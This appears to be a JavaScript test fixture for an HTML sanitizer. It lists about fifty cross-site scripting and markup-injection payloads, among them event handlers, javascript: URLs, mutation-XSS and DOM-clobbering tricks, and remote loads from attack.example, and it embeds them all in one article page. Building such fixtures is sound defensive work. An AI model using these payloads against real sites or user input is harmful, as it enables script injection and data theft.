// A page of attacks, each of which would call `ran` or request something, were it to run.

const RUN = 'parent.ran&&parent.ran(1);self.ran&&ran(1)';

export const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<script src="https://attack.example/a.js"></script>`,
  `<script type="module">${RUN}</script>`,
  `<img src="x" onerror="${RUN}">`,
  `<img src="https://attack.example/a.png" srcset="https://attack.example/b.png 2x">`,
  `<svg onload="${RUN}"><circle r="1"></circle></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="10">svg</text></a></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<svg><style>&lt;/style>&lt;img src=x onerror="${RUN}"></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>"></table></mtext></math>`,
  `<math href="javascript:${RUN}"><mi>x</mi></math>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<a href="javascript:${RUN}">link</a>`,
  `<a href=" java&#9;script:${RUN}">link with a tab</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">data link</a>`,
  `<a href="https://attack.example/" target="_top" ping="https://attack.example/ping">top</a>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="https://attack.example/"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="https://attack.example/a.swf">`,
  `<meta http-equiv="refresh" content="0;url=https://attack.example/">`,
  `<base href="https://attack.example/"><img src="relative.png">`,
  `<link rel="stylesheet" href="https://attack.example/a.css">`,
  `<link rel="preload" as="image" href="https://attack.example/p.png"><link rel="dns-prefetch" href="//attack.example">`,
  `<style>@import "https://attack.example/b.css"; body { background: url(https://attack.example/c.png); }</style>`,
  `<style></style><img src=x onerror="${RUN}"></style>`,
  `<div style="background-image: url(https://attack.example/d.png); width: expression(${RUN})">styled</div>`,
  `<div style="position:fixed;inset:0;background:red">cover</div>`,
  `<form action="https://attack.example/"><input autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">send</button></form>`,
  `<form id="x"><input name="querySelectorAll"><input name="body"></form><img name="querySelectorAll">`,
  `<video src="https://attack.example/v.mp4" poster="https://attack.example/p.png" onloadstart="${RUN}" autoplay></video>`,
  `<audio src="x" onerror="${RUN}"></audio>`,
  `<details open ontoggle="${RUN}"><summary>toggle</summary>inside</details>`,
  `<body onload="${RUN}" onpageshow="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">noscript</p></noscript>`,
  `<template><script>${RUN}</script></template>`,
  `<textarea></textarea><img src=x onerror="${RUN}"></textarea>`,
  `<textarea>&lt;/textarea>&lt;img src=x onerror="${RUN}"></textarea>`,
  `<xmp><img src=x onerror="${RUN}"></xmp>`,
  `<title></title><script>${RUN}</script></title>`,
  `<select><option></select><img src=x onerror="${RUN}">`,
  `<marquee onstart="${RUN}">marquee</marquee>`,
  `<p onclick="${RUN}" onmouseover="${RUN}" tabindex="0">handlers</p>`,
  `<p id="panel-panel" class="skip" data-b="0">ids of the inspector</p>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<p>text that looks like markup: &lt;img src=x onerror="${RUN}"&gt; &lt;script&gt;${RUN}&lt;/script&gt;</p>`,
  `<p>[markdown](javascript:${RUN}) ![image](https://attack.example/m.png) \`code\` <code>&lt;script&gt;</code></p>`,
];

const SENTENCE = 'The harbour master counts the boats every evening and writes their number into the book by the door.';

/** All payloads on one page, within an article, and in its metadata. */
export const ATTACK = `<!doctype html><html lang="en"><head><title>&lt;img src=x onerror="${RUN}"&gt;</title>
<meta property="og:title" content="&lt;script&gt;${RUN}&lt;/script&gt;"><meta name="author" content="&quot;&gt;&lt;img src=x onerror=${RUN}&gt;">
<meta property="og:image" content="javascript:${RUN}"><link rel="canonical" href="javascript:${RUN}">
<script type="application/ld+json">{"@type":"Article","headline":"<img src=x onerror='${RUN}'>","author":{"name":"<svg onload='${RUN}'>"}}</script></head>
<body><article><h1>Boats</h1>
${PAYLOADS.map((payload, at) => `<p>Payload ${at + 1}. ${SENTENCE}</p>\n${payload}\n<p>${SENTENCE}</p>`).join('\n')}
<plaintext><img src=x onerror="${RUN}"><script>${RUN}</script>`;
